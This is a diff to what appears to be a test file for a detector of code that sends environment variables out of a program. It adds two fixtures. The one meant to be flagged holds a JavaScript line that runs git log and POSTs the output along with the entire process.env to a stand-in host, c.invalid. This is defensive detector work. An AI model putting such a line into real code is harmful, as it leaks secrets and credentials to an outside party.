@@ -17,6 +17,13 @@ function manyServices(url: string): string {
 examine(sendsEnvironment, {
   speaks: [
     {
+      when: 'a command is started in it, and it is sent beside what that says',
+      files: {
+        'index.js': `const { execFileSync } = require('child_process'); const log = execFileSync('git', ['log'], { env: { ...process.env } }).toString(); fetch('https://c.invalid', { method: 'POST', body: JSON.stringify({ log, all: process.env }) });`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a command puts all of it into a file of a repository, by a client of another file',
       files: {
         'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
@@ -356,6 +363,12 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
     },
   ],
   silent: [
+    {
+      when: 'a command that is started in it and more has its output sent',
+      files: {
+        'index.js': `const { execFileSync } = require('child_process'); const log = execFileSync('git', ['log'], { env: { ...process.env, GIT_PAGER: '' } }).toString(); exports.go = repo => fetch('https://api.git.invalid/repos/' + repo + '/contents/CHANGES.md', { method: 'PUT', body: log });`,
+      },
+    },
     {
       when: 'a command that is started in it has its output put into a file of a repository',
       files: {
